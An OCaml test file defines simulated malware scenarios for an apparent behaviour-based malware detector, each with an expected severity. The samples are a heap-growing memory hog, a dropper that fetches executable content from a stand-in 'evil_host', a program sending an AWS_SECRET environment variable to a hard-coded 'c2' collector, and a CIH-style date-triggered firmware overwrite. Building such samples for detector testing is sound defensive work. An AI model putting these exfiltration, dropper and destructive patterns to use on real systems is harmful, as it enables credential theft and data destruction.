open Asm

let group = "extensions"

let medium = Scenario.Malicious Secpert.Severity.Medium
let high = Scenario.Malicious Secpert.Severity.High

(* ---------------- memory hog ---------------- *)
let memhog_exe =
  let u = create ~path:"/bin/memhog" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  label u "_start";
  (* query the current break, then grow it 0x1000 at a time *)
  movl u eax (imm Osim.Abi.sys_brk);
  movl u ebx (imm 0);
  int80 u;
  movl u esi eax;
  movl u edi (imm 20);
  label u "grow";
  addl u esi (imm 0x1000);
  movl u eax (imm Osim.Abi.sys_brk);
  movl u ebx esi;
  int80 u;
  decl u edi;
  jnz u "grow";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let memhog =
  Scenario.make ~name:"memory hog" ~group
    ~descr:"grows the heap by 128 KiB via brk (Vundo-style degradation)"
    ~expected:medium
    (Hth.Engine.setup ~programs:[ memhog_exe ] ~main:"/bin/memhog" ())

(* ---------------- network dropper with user-named everything -------- *)
(* The user supplies both the host and the file name (wget-style), so
   the name-origin matrix is completely silent; only the *content*
   arriving from the network tells a tool download from a drive-by
   executable drop. *)
let stealth_dropper_exe =
  let u = create ~needed:[ Libc.path ] ~path:"/bin/getfile"
      ~kind:Binary.Image.Executable ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  space u "argp" 4;
  space u "argh" 4;
  space u "fd" 4;
  space u "n" 4;
  label u "_start";
  Runtime.save_argv u 1 "argp";
  Runtime.save_argv u 2 "argh";
  (* resolve the user-given host *)
  pushl u (mlbl "argh");
  call u "gethostbyname";
  addl u esp (imm 4);
  testl u eax eax;
  jz u "fail";
  Runtime.build_sockaddr u ~ip_src:eax ~port:(imm 80);
  movl u edi eax;
  Runtime.sys_socket u;
  movl u esi eax;
  Runtime.sys_connect u ~fd:esi ~addr:edi;
  Runtime.sys_recv u ~fd:esi ~buf:(lbl "__buf") ~len:(imm 64);
  movl u (mlbl "n") eax;
  Runtime.sys_open u ~path:(mlbl "argp")
    ~flags:Osim.Abi.(o_creat lor o_wronly lor o_trunc);
  movl u (mlbl "fd") eax;
  Runtime.sys_write u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(mlbl "n");
  Runtime.sys_close u ~fd:(mlbl "fd");
  Runtime.sys_exit u 0;
  label u "fail";
  Runtime.sys_exit u 2;
  hlt u;
  finalize u

let stealth_dropper =
  Scenario.make ~name:"stealth dropper" ~group
    ~descr:"downloads MZ executable content into a user-named file — \
            caught only by content analysis"
    ~expected:high
    (Hth.Engine.setup ~programs:[ stealth_dropper_exe; Libc.image () ]
       ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, 80,
           { Osim.Net.actor_host = fst Common.evil_host;
             script = [ Osim.Net.Send "MZ\144\000payload-bytes";
                        Osim.Net.Close ] } ]
       ~argv:[ "/bin/getfile"; "/home/user/tool.exe"; fst Common.evil_host ]
       ~main:"/bin/getfile" ())

(* the same download of plain text stays benign *)
let text_download =
  Scenario.make ~name:"text download" ~group
    ~descr:"downloads plain text into a user-named file: benign"
    ~expected:Scenario.Benign
    (Hth.Engine.setup ~programs:[ stealth_dropper_exe; Libc.image () ]
       ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, 80,
           { Osim.Net.actor_host = fst Common.evil_host;
             script = [ Osim.Net.Send "just some readme text";
                        Osim.Net.Close ] } ]
       ~argv:[ "/bin/getfile"; "/home/user/readme.txt";
               fst Common.evil_host ]
       ~main:"/bin/getfile" ())

(* ---------------- environment-variable exfiltration ----------------- *)
(* Environment strings live on the initial stack (USER_INPUT, Section
   7.3.3); leaking one to a hard-coded collector is the PWSteal pattern
   via a different channel. *)
let envleak_exe =
  let u = create ~path:"/bin/envleak" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  Runtime.static_sockaddr u "c2" ~ip:(snd Common.evil_host) ~port:80;
  space u "envp" 4;
  label u "_start";
  Runtime.save_env u 0 "envp";
  movl u esi (mlbl "envp");
  Runtime.strlen u ~id:"env" ~src:ESI ~dst:EDX;
  movl u (mlbl ~off:60 "__scratch") edx;
  Runtime.sys_socket u;
  movl u edi eax;
  Runtime.sys_connect u ~fd:edi ~addr:(lbl "c2");
  Runtime.sys_send u ~fd:edi ~buf:(mlbl "envp")
    ~len:(mlbl ~off:60 "__scratch");
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let envleak =
  Scenario.make ~name:"env exfiltration" ~group
    ~descr:"sends an environment variable to a hard-coded collector"
    ~expected:(Scenario.Malicious Secpert.Severity.Low)
    (Hth.Engine.setup ~programs:[ envleak_exe ] ~hosts:Common.all_hosts
       ~env:[ "AWS_SECRET=hunter2"; "PATH=/usr/bin" ]
       ~servers:
         [ fst Common.evil_host, 80,
           { Osim.Net.actor_host = fst Common.evil_host; script = [] } ]
       ~main:"/bin/envleak" ())

(* ---------------- CIH-style date trigger ---------------------------- *)
(* The CIH/Chernobyl virus triggers only on specific dates (CERT
   IN-99-03, quoted in Sections 4.1 and 7.4).  Modelled as a payload
   gated on the system clock: the trigger block runs once, late — the
   basic-block frequency machinery marks the warning "rarely
   executed". *)
let cih_exe =
  let u = create ~path:"/bin/cih" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  asciz u "bios" "/dev/bios";
  asciz u "garbage" "\xde\xad\xbe\xef-overwrite-the-firmware";
  space u "fd" 4;
  label u "_start";
  (* benign-looking busy loop: check the date, do nothing, repeat *)
  label u "wait";
  movl u eax (imm Osim.Abi.sys_time);
  int80 u;
  cmpl u eax (imm 2600);  (* the 26th... *)
  jl u "wait";
  (* trigger date reached: overwrite the firmware *)
  Runtime.sys_creat u ~path:(lbl "bios");
  movl u (mlbl "fd") eax;
  Runtime.sys_write u ~fd:(mlbl "fd") ~buf:(lbl "garbage") ~len:(imm 28);
  Runtime.sys_close u ~fd:(mlbl "fd");
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let cih =
  Scenario.make ~name:"CIH date trigger" ~group
    ~descr:"payload gated on the clock; fires once, late — the warning             carries the rarely-executed note"
    ~expected:(Scenario.Malicious Secpert.Severity.High)
    (Hth.Engine.setup ~programs:[ cih_exe ] ~max_ticks:100_000
       ~main:"/bin/cih" ())

let scenarios =
  [ memhog; stealth_dropper; text_download; envleak; cih ]
